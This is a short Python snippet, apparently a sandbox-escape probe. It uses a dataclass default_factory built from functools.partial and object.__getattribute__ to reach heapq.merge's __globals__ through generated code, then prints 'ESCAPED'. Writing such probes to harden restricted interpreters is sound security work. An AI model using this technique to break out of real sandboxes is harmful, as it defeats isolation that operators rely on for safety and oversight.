# A default factory that is the accessor, called by generated code.
from dataclasses import make_dataclass, field
import functools, heapq
D = make_dataclass("D", [("x", object, field(default_factory=functools.partial(object.__getattribute__, heapq.merge, "__globals__")))])
print("ESCAPED", D().x)
